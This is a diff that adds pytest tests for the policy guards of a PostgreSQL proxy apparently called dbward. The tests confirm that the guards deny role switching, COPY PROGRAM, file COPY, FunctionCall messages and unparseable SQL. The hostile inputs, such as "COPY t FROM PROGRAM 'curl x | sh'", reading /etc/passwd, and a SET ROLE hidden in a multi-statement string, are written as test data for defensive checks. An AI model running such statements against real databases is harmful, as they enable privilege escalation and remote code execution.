@@ -1,0 +1,224 @@
+"""The policy decision point: default allow, and the built-in guards that are always on."""
+
+from __future__ import annotations
+
+import pytest
+
+from dbward.core.types import (
+    Decision,
+    Identity,
+    PolicyRequest,
+    ProtocolPath,
+    SessionContext,
+    Statement,
+    StatementKind,
+    Verdict,
+)
+from dbward.policy import engine
+from dbward.policy.engine import ALLOW, GUARDS, decide
+from dbward.sql.postgres import PostgresClassifier, function_call_statement
+
+SESSION = SessionContext(
+    session_id="s1",
+    identity=Identity("alice"),
+    listener="main",
+    database="app",
+    client_addr="127.0.0.1",
+    application_name="psql",
+)
+CLF = PostgresClassifier()
+
+
+def request(statement: Statement, path: ProtocolPath = ProtocolPath.SIMPLE) -> PolicyRequest:
+    return PolicyRequest(session=SESSION, statement=statement, path=path, now=0.0)
+
+
+def decisions(sql: str) -> list[Decision]:
+    return [decide(request(s)) for s in CLF.classify(sql)]
+
+
+def denied_by(sql: str) -> list[str]:
+    return [d.rule for d in decisions(sql) if not d.allowed]
+
+
+@pytest.mark.parametrize(
+    "sql",
+    [
+        "SELECT * FROM t",
+        "SELECT 'SET ROLE admin'",
+        "SELECT $$;SET ROLE x$$",
+        "SELECT role FROM users",
+        "SHOW role",
+        "SET search_path = x",
+        "SELECT current_setting('role')",
+        "SELECT set_config('search_path', 'x', false)",
+        "RESET ALL",
+        "UPDATE t SET a = 1",
+        "DELETE FROM t",
+        "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
+        "COPY t FROM STDIN",
+        "COPY t TO STDOUT (FORMAT csv)",
+        "EXPLAIN ANALYZE DELETE FROM t",
+        "CREATE TABLE t (a int)",
+        "GRANT SELECT ON t TO bob",
+        "DO $$BEGIN END$$",
+        "BEGIN",
+    ],
+)
+def test_allowed(sql: str) -> None:
+    for decision in decisions(sql):
+        assert decision is ALLOW
+    assert ALLOW.verdict is Verdict.ALLOW
+    assert (ALLOW.rule, ALLOW.reason) == ("default.allow", "allowed")
+
+
+@pytest.mark.parametrize(
+    "sql",
+    [
+        "SET ROLE admin",
+        "SeT RoLe admin",
+        "SET LOCAL ROLE admin",
+        "RESET ROLE",
+        "SET SESSION AUTHORIZATION DEFAULT",
+        "SET SESSION AUTHORIZATION admin",
+        'SET "role" = admin',
+        "DISCARD ALL",
+        "ALTER ROLE alice SET role = admin",
+        "/* ; */ SET ROLE x",
+        "-- x\nSET ROLE y",
+        "SELECT set_config('ROLE', 'x', false)",
+        "SELECT pg_catalog.set_config('role','x',true)",
+        "select set_config(lower('ROLE'), 'x', false)",
+        "SELECT * FROM (SELECT set_config('role', 'x', false)) s",
+        "WITH c AS (SELECT set_config('role', 'x', false)) SELECT * FROM c",
+        "SELECT coalesce(set_config('role', 'x', false), '')",
+        "EXPLAIN ANALYZE SELECT set_config('role', 'x', false)",
+        "CREATE TABLE t AS SELECT set_config('role', 'x', false)",
+        "DECLARE c CURSOR FOR SELECT set_config('role', 'x', false)",
+        "PREPARE p AS SELECT set_config('role', 'x', false)",
+    ],
+)
+def test_role_switch_denied(sql: str) -> None:
+    (decision,) = decisions(sql)
+    assert decision.verdict is Verdict.DENY
+    assert decision.rule == "guard.role_switch"
+    assert decision.sqlstate == "42501"
+    assert decision.reason.startswith("dbward: changing role or session authorization")
+    assert "admin" not in decision.reason  # never echo the statement
+
+
+@pytest.mark.parametrize(
+    ("sql", "rule"),
+    [
+        ("COPY t TO PROGRAM 'id'", "guard.copy_program"),
+        ("COPY t FROM PROGRAM 'curl x | sh'", "guard.copy_program"),
+        ("COPY (SELECT 1) TO '/tmp/x'", "guard.copy_file"),
+        ("COPY t FROM '/etc/passwd'", "guard.copy_file"),
+    ],
+)
+def test_copy_guards(sql: str, rule: str) -> None:
+    (decision,) = decisions(sql)
+    assert (decision.verdict, decision.rule, decision.sqlstate) == (Verdict.DENY, rule, "42501")
+
+
+@pytest.mark.parametrize(
+    ("sql", "rules"),
+    [
+        ("SELECT 1; SET ROLE admin", ["guard.role_switch"]),
+        ("select 1;set role admin;--", ["guard.role_switch"]),
+        ("SELECT 1; SELECT set_config('role','x',false)", ["guard.role_switch"]),
+        ("BEGIN; COPY t TO PROGRAM 'id'; COMMIT", ["guard.copy_program"]),
+        ("SELECT 1; COPY t TO '/x'; RESET ROLE", ["guard.copy_file", "guard.role_switch"]),
+    ],
+)
+def test_guards_catch_statements_hidden_in_multi_statement_strings(
+    sql: str, rules: list[str]
+) -> None:
+    assert denied_by(sql) == rules
+
+
+@pytest.mark.parametrize(
+    "sql",
+    ["garbage", "SELECT 'unterminated", "SELECT 1; garbage", "SELECT 1\x00; SET ROLE x"],
+)
+def test_unparseable_denied_without_raw_sql(sql: str) -> None:
+    (decision,) = decisions(sql)
+    assert decision.rule == "guard.unparseable"
+    assert decision.sqlstate == "42501"
+    assert decision.reason.startswith("dbward: statement could not be parsed")
+    assert "garbage" not in decision.reason
+    assert "unterminated'" not in decision.reason
+
+
+def test_unparseable_reason_is_sanitized_and_short() -> None:
+    statement = Statement(
+        text="x",
+        kind=StatementKind.UNKNOWN,
+        command="UNKNOWN",
+        flags=frozenset({"parse_error"}),
+        error='syntax error at or near "\x1b[31mDROP\nTABLE" ' + "z" * 500,
+    )
+    decision = decide(request(statement))
+    assert decision.rule == "guard.unparseable"
+    assert "DROP" not in decision.reason
+    assert "\x1b" not in decision.reason and "\n" not in decision.reason
+    assert len(decision.reason) < 200
+
+
+def test_unrecognised_statement_kind_denied() -> None:
+    statement = Statement(text="x", kind=StatementKind.UNKNOWN, command="NEWTHING")
+    assert decide(request(statement)).rule == "guard.unparseable"
+
+
+def test_function_call_denied() -> None:
+    decision = decide(request(function_call_statement(42), ProtocolPath.FUNCTION_CALL))
+    assert decision.verdict is Verdict.DENY
+    assert decision.rule == "guard.function_call"
+    assert decision.reason == (
+        "dbward: the FunctionCall protocol message bypasses SQL inspection and is refused"
+    )
+    assert decision.sqlstate == "42501"
+
+
+def test_function_call_path_denied_whatever_the_statement() -> None:
+    (statement,) = CLF.classify("SELECT 1")
+    assert decide(request(statement, ProtocolPath.FUNCTION_CALL)).rule == "guard.function_call"
+
+
+def test_function_call_flag_denied_on_any_path() -> None:
+    assert decide(request(function_call_statement(1))).rule == "guard.function_call"
+
+
+def test_first_guard_wins() -> None:
+    statement = Statement(
+        text="x",
+        kind=StatementKind.READ,
+        command="COPY",
+        flags=frozenset({"copy_program", "role_switch"}),
+    )
+    assert decide(request(statement)).rule == "guard.role_switch"
+
+
+def test_extension_point_rules_run_after_guards(monkeypatch: pytest.MonkeyPatch) -> None:
+    deny_ddl = Decision(Verdict.DENY, reason="no ddl", rule="rule.no_ddl")
+
+    def no_ddl(req: PolicyRequest) -> Decision | None:
+        return deny_ddl if req.statement.kind is StatementKind.DDL else None
+
+    monkeypatch.setattr(engine, "RULES", (no_ddl,))
+    assert decisions("CREATE TABLE t (a int)") == [deny_ddl]
+    assert decisions("SELECT 1") == [ALLOW]
+    assert denied_by("SET ROLE x") == ["guard.role_switch"]  # guards still first
+
+
+def test_guards_are_pure_and_ordered() -> None:
+    assert [g.__name__ for g in GUARDS] == [
+        "guard_function_call",
+        "guard_unparseable",
+        "guard_role_switch",
+        "guard_copy_program",
+        "guard_copy_file",
+    ]
+    (statement,) = CLF.classify("SET ROLE admin")
+    req = request(statement)
+    assert decide(req) == decide(req)
